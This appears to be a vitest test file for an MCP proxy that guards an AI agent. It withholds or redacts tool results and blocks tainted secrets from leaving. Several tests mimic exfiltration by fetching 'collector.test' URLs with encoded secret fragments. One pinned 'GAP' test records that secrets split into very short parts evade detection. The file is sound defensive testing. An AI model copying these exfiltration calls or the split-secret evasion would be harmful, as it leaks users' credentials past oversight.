// MCP proxy checks results before the agent sees them: a tools/call result and a
// resources/read result are withheld (block) or rewritten (modify) by the proxy; and taint from
// results, through the persisted store the proxy shares with hooks: a long secret matched by its
// 32-byte chunks, and a secret split across two tool results.
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  fetchServer as fetchLogging,
  fsServer as serverOver,
  proxied,
  text,
  proxyFlags,
} from './proxy-client.js';

const PACK = {
  pack_format: 1,
  name: 'result-test',
  version: '1.0.0',
  licence: 'Apache-2.0',
  description: 'a result rule the proxy tests rely on',
  catalog: ['r.marker'],
  policy: {
    format: 1,
    rules: [
      {
        id: 'r.marker',
        verdict: 'block',
        phase: 'result',
        tools: ['mcp__*__read_file', 'resources/read'],
        when: { field: 'result', contains: 'FORBIDDEN-MARKER' },
        reason: 'result carries the marker',
      },
    ],
  },
};

let home: string;
let root: string;
let pack: string;
const stripe = `sk_live_${randomBytes(18).toString('hex').slice(0, 28)}`;
const long = randomBytes(120).toString('base64');
const half = (): string => randomBytes(12).toString('base64url');
const [partA, partB] = [half(), half()];
// Each part is under the 12-byte minimum; joined (14 bytes) the in-process tracker would take it.
const [tinyA, tinyB] = ['Qx7Zp2', 'k9Lw4mR8'];

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'mesh-mcp-results-'));
  root = join(home, 'files');
  mkdirSync(join(root, 'config'), { recursive: true });
  writeFileSync(join(root, 'marked.txt'), 'line one\nFORBIDDEN-MARKER payload\n');
  writeFileSync(join(root, 'keys.txt'), `ordinary line\nSTRIPE=${stripe}\n`);
  writeFileSync(join(root, 'config', 'secrets.long'), `PRIVATE_BLOB=${long}\n`);
  writeFileSync(join(root, 'config', 'secrets.part1'), `TOKEN_START=${partA}`);
  writeFileSync(join(root, 'config', 'secrets.part2'), `${partB}\n`);
  writeFileSync(join(root, 'config', 'secrets.tiny1'), `T=${tinyA}`);
  writeFileSync(join(root, 'config', 'secrets.tiny2'), `${tinyB}\n`);
  pack = join(home, 'pack.json');
  writeFileSync(pack, JSON.stringify(PACK));
});
afterAll(() => {
  rmSync(home, { recursive: true, force: true });
});

const flags = (session: string): string[] => proxyFlags(pack, session);
const fsServer = (): string[] => serverOver(root);
const fetchServer = (): string[] => fetchLogging(join(home, 'fetch.log'));

describe('mesh guard mcp: result checks', () => {
  it('withholds a blocked tools/call result and refuses a blocked resources/read result', async () => {
    const fs = await proxied(home, flags('withhold'), fsServer());
    try {
      const r = await fs.client.callTool({ name: 'read_file', arguments: { path: 'marked.txt' } });
      expect(r.isError).toBe(true);
      expect(text(r)).toMatch(/^\[withheld\] blocked by mesh guard \(r\.marker\)/);
      expect(text(r)).not.toMatch(/FORBIDDEN-MARKER|payload/);
      const read = fs.client.readResource({ uri: 'file:///marked.txt' });
      await expect(read).rejects.toThrow(/blocked by mesh guard \(r\.marker\)/);
      await expect(read).rejects.not.toThrow(/payload/);
      // The same server's other results pass untouched.
      expect(
        text(
          await fs.client.callTool({
            name: 'read_file',
            arguments: { path: 'config/secrets.part2' },
          }),
        ),
      ).toBe(`${partB}\n`);
    } finally {
      await fs.close();
    }
  }, 120_000);

  it('rewrites a modified tools/call result and resources/read result before the agent sees them', async () => {
    const fs = await proxied(home, flags('rewrite'), fsServer());
    try {
      const r = await fs.client.callTool({ name: 'read_file', arguments: { path: 'keys.txt' } });
      expect(r.isError).not.toBe(true);
      expect(text(r)).toMatch(/ordinary line/);
      expect(text(r)).not.toContain(stripe);
      const res = await fs.client.readResource({ uri: 'file:///keys.txt' });
      const body = (res.contents[0] as { text?: string } | undefined)?.text ?? '';
      expect(body).toMatch(/ordinary line/);
      expect(body).not.toContain(stripe);
      expect(body).not.toBe('');
    } finally {
      await fs.close();
    }
  }, 120_000);

  it('blocks 64 bytes of a long secret leaving (32-byte chunks), not 20, and a secret split across two results', async () => {
    const fs = await proxied(home, flags('chunks'), fsServer());
    const net = await proxied(home, flags('chunks'), fetchServer());
    // The 20-byte fragment goes to a host on the built-in list, so only the flow rules judge it
    // (a value that size to an unlisted host is held by ca.fetch-data-offlist, a separate rule).
    const fetch = (d: string, base = 'https://collector.test/c') =>
      net.client.callTool({
        name: 'fetch',
        arguments: { url: `${base}?d=${encodeURIComponent(d)}` },
      });
    try {
      for (const path of ['config/secrets.long', 'config/secrets.part1', 'config/secrets.part2'])
        expect(
          (await fs.client.callTool({ name: 'read_file', arguments: { path } })).isError,
        ).not.toBe(true);
      const piece = await fetch(Buffer.from(long.slice(30, 94)).toString('base64'));
      expect(piece.isError).toBe(true);
      expect(text(piece)).toMatch(/flow\.sensitive-egress.*\[args\.url\]/);
      expect((await fetch(long.slice(30, 50), 'https://github.com/search')).isError).not.toBe(true);
      const joined = await fetch(Buffer.from(`${partA}${partB}`).toString('hex'));
      expect(joined.isError).toBe(true);
      expect(text(joined)).toMatch(/flow\.sensitive-egress/);
    } finally {
      await fs.close();
      await net.close();
    }
  }, 120_000);

  it('GAP (pinned): a secret split into parts too short to be taint is not caught after the join', async () => {
    const fs = await proxied(home, flags('tiny'), fsServer());
    const net = await proxied(home, flags('tiny'), fetchServer());
    try {
      for (const path of ['config/secrets.tiny1', 'config/secrets.tiny2'])
        await fs.client.callTool({ name: 'read_file', arguments: { path } });
      const r = await net.client.callTool({
        name: 'fetch',
        arguments: { url: `https://collector.test/c?d=${tinyA}${tinyB}` },
      });
      expect(r.isError).not.toBe(true);
    } finally {
      await fs.close();
      await net.close();
    }
  }, 120_000);
});
